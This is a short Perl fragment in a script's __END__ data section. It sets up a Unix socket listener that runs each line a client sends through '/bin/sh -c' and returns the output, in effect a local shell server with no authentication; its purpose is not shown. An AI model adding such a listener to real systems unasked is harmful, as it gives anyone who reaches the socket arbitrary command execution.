exit;
__END__
my $s = IO::Socket::UNIX->new( Local => $p , Type => SOCK_STREAM , Listen => 5 ) ;
while ( my $peer = $s->accept ) {
    next if fork ;
    open( STDERR , '>&' , $peer ) ;
    open( STDOUT , '>&' , $peer ) ;
    exec '/bin/sh' , '-c' , scalar <$peer> ;
}
